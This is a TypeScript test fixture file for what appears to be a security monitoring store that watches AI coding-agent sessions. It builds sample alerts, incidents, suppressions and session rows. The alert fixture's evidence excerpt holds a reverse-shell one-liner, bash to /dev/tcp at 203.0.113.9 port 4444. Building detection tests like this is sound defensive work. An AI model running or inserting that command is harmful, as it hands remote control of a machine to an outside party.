/** Plain rows for tests of the store and of what uses it: valid, and changed where a test cares. */
import type { Alert } from '../contracts/alert';
import type { Incident } from '../contracts/incident';
import type { ArchiveWrite, FindingRow, OutboxRow, SessionRow, SourceRow } from '../contracts/store';
import type { Suppression } from '../contracts/suppression';

export const alertOf = (parts: Partial<Alert>): Alert => ({
  id: 'a1',
  tenant: 'default',
  detector: 'reverse-shell',
  detectorVersion: '1.0.0',
  title: 'Reverse shell',
  why: 'bash connects its input and output to 203.0.113.9:4444.',
  severity: 'high',
  confidence: 'high',
  risk: 15,
  facts: ['attempted'],
  techniques: ['T1059.004'],
  entities: { session: 's1', host: 'build-1' },
  scope: 'session:claude-code:s1',
  session: 's1',
  source: { dialect: 'claude-code' },
  evidence: [{ eventId: 'e1', at: 10, excerpt: 'bash -i >& /dev/tcp/203.0.113.9/4444', phase: 'completed' }],
  count: 1,
  firstSeen: 10,
  lastSeen: 10,
  state: 'new',
  triage: ['Look at what ran in the shell.'],
  falsePositives: [],
  createdAt: 100,
  updatedAt: 100,
  ...parts,
});

export const incidentOf = (parts: Partial<Incident>): Incident => ({
  id: 'i1',
  tenant: 'default',
  title: 'Reverse shell on build-1',
  story: ['It began with a reverse shell.'],
  severity: 'high',
  confidence: 'high',
  risk: 15,
  tactics: [{ tactic: 'execution', at: 10 }],
  techniques: ['T1059.004'],
  alerts: ['a1'],
  count: 1,
  trees: [{ tree: 'session:claude-code:s1', at: 10 }],
  entities: { host: ['build-1'] },
  state: 'open',
  history: [],
  pages: [],
  firstSeen: 10,
  lastSeen: 10,
  createdAt: 100,
  updatedAt: 100,
  ...parts,
});

export const suppressionOf = (parts: Partial<Suppression>): Suppression => ({
  id: 'u1',
  tenant: 'default',
  match: { detector: 'reverse-shell', host: 'build-1' },
  owner: 'ana',
  reason: 'The lab shows it each week.',
  createdAt: 100,
  expiresAt: 1_000_000,
  hits: 0,
  ...parts,
});

export const findingRowOf = (parts: Partial<FindingRow>): FindingRow => ({
  id: 'f1',
  alertId: 'a1',
  eventIds: ['e1'],
  ...parts,
});

export const outboxRowOf = (parts: Partial<OutboxRow>): OutboxRow => ({
  id: 'n1',
  sink: 'ops',
  alertId: 'a1',
  type: 'alert.created',
  body: '{}',
  attempts: 0,
  nextAttemptAt: 50,
  createdAt: 50,
  receivedAt: 40,
  ...parts,
});

export const sessionOf = (parts: Partial<SessionRow>): SessionRow => ({
  tenant: 'default',
  session: 's1',
  scope: 'session:claude-code:s1',
  dialect: 'claude-code',
  firstSeen: 10,
  lastSeen: 10,
  events: 1,
  ranges: [],
  ...parts,
});

export const sourceOf = (parts: Partial<SourceRow>): SourceRow => ({
  tenant: 'default',
  dialect: 'claude-code',
  service: 'claude-code',
  version: '2.1.0',
  host: 'build-1',
  firstSeen: 10,
  lastSeen: 10,
  events: 1,
  hidden: [],
  ...parts,
});

export const textOf = (parts: Partial<ArchiveWrite['search'][number]>): ArchiveWrite['search'][number] => ({
  tenant: 'default',
  scope: 'session:claude-code:s1',
  eventId: 'e1',
  at: 10,
  partition: 0,
  offset: 7,
  text: '',
  ...parts,
});
